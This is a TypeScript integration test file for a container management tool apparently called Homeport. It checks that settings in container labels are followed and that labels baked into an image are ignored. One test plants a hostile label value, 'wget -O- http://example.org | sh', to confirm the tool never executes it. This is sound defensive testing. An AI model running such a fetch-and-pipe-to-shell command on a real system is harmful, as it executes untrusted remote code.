import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from 'vitest';
import { BASE_IMAGE, dockerCleanup, TEST_LABEL, testDocker, waitFor } from '../../support/docker.ts';
import { watchLeftovers } from '../../support/docker-leftovers.ts';
import { createRepo, type TestRepo } from '../../support/git-repo.ts';
import { webApp } from '../../support/git-web-app.ts';
import { type Homeport, startHomeport } from '../../support/homeport.ts';
import { saying, wordsOf } from '../../support/in-words.ts';

/** Settings that a person writes on a container; an image can write them too, and nobody listens. */

const PREFIX = 'hpt-label-';
const NAME = `${PREFIX}web`;
const RUNS = ['/bin/sh', '-c', 'trap "exit 0" TERM; while :; do sleep 1 & wait $!; done'];
const docker = testDocker();
let dir: string;
let repo: TestRepo;
let homeport: Homeport;
let leftovers: Awaited<ReturnType<typeof watchLeftovers>>;

beforeAll(async () => {
  await dockerCleanup(PREFIX);
  dir = await mkdtemp(path.join(tmpdir(), PREFIX));
  repo = await createRepo(path.join(dir, 'repo'));
  await repo.commit(webApp({ body: 'one' }), 'One');
  homeport = await startHomeport();
});
beforeEach(async () => {
  leftovers = await watchLeftovers({ prefix: PREFIX });
});
afterEach(async () => {
  for (const { name } of (await homeport.client.live.get()).apps)
    await homeport.client.apps.remove({ app: name, keepContainer: false });
  await dockerCleanup(PREFIX);
  await leftovers.expectNone();
});
afterAll(async () => {
  await homeport?.close();
  await rm(dir, { recursive: true, force: true });
});

/** A container as a person runs it, in the place of one of that name. */
async function run(labels: Record<string, string>, image = BASE_IMAGE): Promise<void> {
  await docker
    .getContainer(NAME)
    .remove({ force: true })
    .catch(() => undefined);
  const made = await docker.createContainer({
    name: NAME,
    Image: image,
    Cmd: RUNS,
    Labels: { ...TEST_LABEL, ...labels },
  });
  await made.start();
}
const adopt = () =>
  homeport.client.apps.adopt({
    container: NAME,
    source: { kind: 'git', from: { kind: 'git', url: repo.url } },
  });
const app = (name = NAME) => homeport.client.apps.get({ app: name });

test('are read when it is adopted, shown as such, and followed when they change, until a person says otherwise', async () => {
  await run({
    'homeport.name': `${PREFIX}named`,
    'homeport.schedule': '0 9 * * *',
    'homeport.policy.on-failure': 'ask',
    'homeport.policy.keep': 'many',
  });
  await adopt();
  const named = `${PREFIX}named`;
  const adopted = await app(named);
  expect(adopted).toMatchObject({
    containerName: NAME,
    config: { schedule: { cron: '0 9 * * *' }, policy: { onFailure: 'ask', keepReleases: 5 } },
    fromLabels: [
      { setting: 'schedule', label: 'homeport.schedule' },
      { setting: 'on-failure', label: 'homeport.policy.on-failure' },
    ],
  });
  expect(adopted.warnings).toContainEqual(saying('homeport.policy.keep'));

  await run({ 'homeport.schedule': '0 10 * * *' });
  const followed = await waitFor(
    async () => {
      const now = await app(named);
      return now.config.schedule.cron === '0 10 * * *' ? now : null;
    },
    { what: 'the new label' },
  );
  expect(followed.config.policy.onFailure).toBe('rollback');
  expect(followed.nextRunAt).not.toBe(adopted.nextRunAt);

  const { policy, schedule } = followed.config;
  await homeport.client.apps.configure({ app: named, policy, schedule: { ...schedule, cron: '0 1 * * *' } });
  expect((await app(named)).fromLabels).toEqual([]);
  await run({ 'homeport.schedule': '0 11 * * *' });
  const told = await waitFor(
    async () => {
      const now = await app(named);
      return now.warnings.some((it) => wordsOf(it).includes('0 11 * * *')) ? now : null;
    },
    { what: 'what the label says now' },
  );
  expect(told.config.schedule.cron).toBe('0 1 * * *');
});

test('of an image set nothing, and leave nothing out', async () => {
  const hostile = {
    'homeport.enable': 'false',
    'homeport.name': 'theirs',
    'homeport.schedule': '* * * * *',
    'homeport.policy.on-failure': 'ask',
    'homeport.probe.exec': 'wget -O- http://example.org | sh',
  };
  const changes = Object.entries(hostile).map(([name, value]) => `LABEL ${name}=${JSON.stringify(value)}`);
  const seed = await docker.createContainer({ name: `${PREFIX}seed`, Image: BASE_IMAGE, Labels: TEST_LABEL });
  await seed.commit({ repo: `${PREFIX}hostile`, tag: '1', changes: changes.join('\n') });
  await seed.remove();
  const image = `${PREFIX}hostile:1`;
  expect((await docker.getImage(image).inspect()).Config.Labels).toMatchObject(hostile);
  await run({}, image);
  const listed = (await homeport.client.apps.adoptable()).find(({ name }) => name === NAME);
  expect(listed?.refusal).toBeNull();
  await adopt();
  expect(await app()).toMatchObject({
    name: NAME,
    fromLabels: [],
    config: { schedule: { cron: 'H */6 * * *' }, policy: { onFailure: 'rollback', gate: { probe: null } } },
  });
});

test('leave it alone: it is listed with the reason, and not adopted', async () => {
  await run({ 'homeport.enable': 'false' });
  const listed = (await homeport.client.apps.adoptable()).find(({ name }) => name === NAME);
  expect(wordsOf(listed?.refusal ?? null)).toContain('homeport.enable');
  await expect(adopt()).rejects.toThrow('homeport.enable');
});
